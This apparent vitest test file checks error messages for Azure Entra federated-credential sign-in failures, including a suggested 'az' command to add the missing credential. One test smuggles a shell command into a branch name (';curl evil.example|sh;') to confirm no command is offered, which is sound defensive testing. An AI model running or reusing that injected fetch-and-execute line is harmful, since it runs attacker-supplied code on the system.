import { expect, test } from 'vitest';
import { openScenario } from '../../support/scenario.ts';

const { azure, step } = await openScenario();

test.each([
  ['AADSTS700213', false],
  ['AADSTS70021', true],
])(
  "the error shows the ID token's claims and the command that adds them (%s)",
  async (code, olderWording) => {
    azure.identity.olderWording = olderWording;
    azure.identity.idTokenClaims = { sub: 'repo:octo/churn:environment:prod' };
    const { error } = await step();

    expect(error).toContain(
      `Entra refused the sign-in of application '${azure.clientId}' (${code}): no federated credential matches the ID token that was presented.`,
    );
    expect(error).toContain("\n  subject: 'repo:octo/churn:environment:prod'\n");
    expect(error).toContain(`\n  issuer: '${azure.oidc.issuer}'\n`);
    expect(error).toContain("\n  audience: 'api://AzureADTokenExchange'\n");
    const parameters = JSON.stringify({
      name: 'github-environment-prod',
      issuer: azure.oidc.issuer,
      subject: 'repo:octo/churn:environment:prod',
      audiences: ['api://AzureADTokenExchange'],
    });
    expect(error).toContain(
      `\n  az ad app federated-credential create --id ${azure.clientId} --parameters '${parameters}'\n`,
    );
    expect(error).toContain("The job names the environment 'prod'");
  },
);

test('the error offers no command for a branch whose name a shell would read', async () => {
  azure.identity.idTokenClaims = { sub: "repo:octo/churn:ref:refs/heads/x';curl evil.example|sh;'" };
  const { error } = await step();

  expect(error).toContain('(AADSTS700213)');
  expect(error).not.toContain('az ad app federated-credential create');
});

test.each([
  [
    'AADSTS700211',
    { issuer: 'https://token.example' },
    "none of its federated credentials has the ID token's issuer.",
  ],
  [
    'AADSTS700212',
    { audience: 'api://AzureADTokenExchangeUSGov' },
    "none of its federated credentials has the ID token's audience.",
  ],
  [
    'AADSTS7002138',
    { subject: 'repo:Octo/Churn:ref:refs/heads/main' },
    "differs from the ID token's subject in upper and lower case only.",
  ],
])('an ID token that differs otherwise is told apart (%s)', async (code, difference, reason) => {
  azure.identity.federatedCredentials = azure.identity.federatedCredentials.map((credential) => ({
    ...credential,
    ...difference,
  }));
  const { error } = await step();

  expect(error).toContain(`(${code}): `);
  expect(error).toContain(reason);
  expect(error).toContain(`subject: '${azure.oidc.subject}'`);
});
